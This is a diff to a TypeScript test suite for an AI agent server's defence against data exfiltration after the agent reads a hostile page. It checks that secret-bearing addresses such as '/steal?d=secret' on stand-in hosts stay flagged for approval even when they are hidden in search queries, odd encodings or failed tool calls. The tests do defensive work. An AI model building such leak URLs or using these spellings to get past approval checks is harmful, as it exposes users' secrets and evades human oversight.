@@ -45,6 +45,11 @@ beforeAll(async () => {
   seen('/steal', 'thanks')
   seen('/listed', 'a listed page')
   seen('/', 'an origin')
+  site.serve(
+    '/search',
+    'application/json',
+    JSON.stringify({ results: [{ title: 'A hit', url: at('found', '/listed') }] }),
+  )
   site.page('/away', (_request, response) => {
     response.writeHead(302, { location: at('elsewhere', '/steal') }).end()
   })
@@ -67,17 +72,21 @@ describeOnEachServer('new addresses', (start) => {
   let server: TestServer
   const call: Call = async (method, path, body) =>
     (await server.call(method, path, body === undefined ? {} : { body })).json
-  const { createConversation, send, perform } = actor(
+  const { createProject, createConversation, send, perform } = actor(
     () => ({ upstream, site, url: server.url }),
     call,
   )
   beforeAll(async () => {
-    server = await start({ ...outsideConfiguration(upstream), tools: { cache_ttl: 0 } })
+    server = await start({
+      ...outsideConfiguration(upstream),
+      tools: { cache_ttl: 0 },
+      web_search: { provider: 'searxng', url: `${site.origin}/search` },
+    })
   })
 
   /** A conversation that has read a hostile page. */
-  const tainted = async (approval = 'ask'): Promise<string> => {
-    const conversation = await createConversation(null, approval)
+  const tainted = async (approval = 'ask', projectId: string | null = null): Promise<string> => {
+    const conversation = await createConversation(projectId, approval)
     await perform(conversation, [fetchCall(`${site.origin}/hostile`)])
     lookups.length = 0
     hits.length = 0
@@ -146,6 +155,90 @@ describeOnEachServer('new addresses', (start) => {
     expect(request.preview.warning_code).toBe('new_address')
     await request.decide('reject')
     expect([lookups, hits]).toEqual([[], []])
+  })
+
+  /** Whether this address is new in the conversation; the request is then rejected. */
+  const isNew = async (conversation: string, url: string): Promise<boolean> => {
+    const request = await requestOf(conversation, [fetchCall(url)])
+    if (request === undefined) return false
+    expect(request.preview).toMatchObject({ warning_code: 'new_address', addresses: [url] })
+    await request.decide('reject')
+    return true
+  }
+
+  test('an address in the words of a search stays new, and so does its host, however it is written; the hits are known', async () => {
+    const conversation = await tainted()
+    const leak = at('secret-words', '/steal?d=secret')
+    const spellings = [
+      leak,
+      `words \ud800 ${encodeURIComponent(leak)}`,
+      leak.replace('http:', '&#104;ttp&colon;'),
+      leak.replaceAll('/', '\\/'),
+      `${leak}\ud800more`,
+    ]
+    await perform(
+      conversation,
+      spellings.map((query, position) => ({
+        id: `search_${position}`,
+        name: 'web_search',
+        arguments: { query },
+      })),
+    )
+    expect(JSON.stringify(upstream.requests.at(-1)?.messages)).toContain(at('found', '/listed'))
+    lookups.length = 0
+    expect(await isNew(conversation, leak)).toBe(true)
+    expect(await isNew(conversation, at('secret-words'))).toBe(true)
+    expect([lookups, hits]).toEqual([[], []])
+    expect(await isNew(conversation, at('found', '/listed'))).toBe(false)
+    expect(hits).toEqual(['found.test/listed'])
+  })
+
+  test('a search for a known address does not make it new', async () => {
+    const conversation = await tainted()
+    const listed = at('listed', '/listed')
+    await perform(conversation, [{ name: 'web_search', arguments: { query: listed } }])
+    expect(await isNew(conversation, listed)).toBe(false)
+  })
+
+  test('an address stays new when a failed call repeats it: a handle that does not exist, a broken pattern', async () => {
+    const conversation = await tainted('ask', await createProject())
+    const leak = at('secret-words', '/steal?d=secret')
+    await perform(
+      conversation,
+      [{ name: 'result_read', arguments: { handle: `${leak} result-1` } }],
+      [{ name: 'file_grep', arguments: { pattern: `${leak}(` } }],
+    )
+    const said = JSON.stringify(upstream.requests.at(-1)?.messages)
+    expect(said.split('success\\":false')).toHaveLength(3)
+    expect(await isNew(conversation, leak)).toBe(true)
+    expect(await isNew(conversation, at('secret-words'))).toBe(true)
+    expect([lookups, hits]).toEqual([[], []])
+  })
+
+  test('the rest of a long page names addresses, too, but only when its own handle is read', async () => {
+    site.serve(
+      '/long',
+      'text/plain',
+      `${'Words that fill the page. '.repeat(4_000)} See ${at('late', '/listed')}.`,
+    )
+    const conversation = await tainted()
+    const text = `Read ${site.origin}/long`
+    upstream.enqueue(turn.toolCalls([fetchCall(`${site.origin}/long`)]), turn.text('Done.'))
+    await (await send(conversation, { text })).all()
+    expect(await isNew(conversation, at('late', '/listed'))).toBe(true)
+    const results = JSON.stringify(upstream.requests.at(-1)?.messages)
+    const handle = /result_read\(handle=\\+"([^"\\]+)/.exec(results)?.[1] ?? ''
+    expect(handle).not.toBe('')
+    const rest = { handle, offset: 100_000 }
+    upstream.enqueue(
+      turn.toolCalls([fetchCall(`${site.origin}/long`)]),
+      turn.toolCalls([{ name: 'result_read', arguments: rest }]),
+      turn.toolCalls([fetchCall(at('late', '/listed'))]),
+      turn.text('Done.'),
+    )
+    const events = await (await send(conversation)).all()
+    expect(events.map(({ event }) => event)).not.toContain('approval_required')
+    expect(hits).toEqual(['late.test/listed'])
   })
 
   test('a redirect to a host that nobody named ends the call and names the host, unless a person approved the call', async () => {
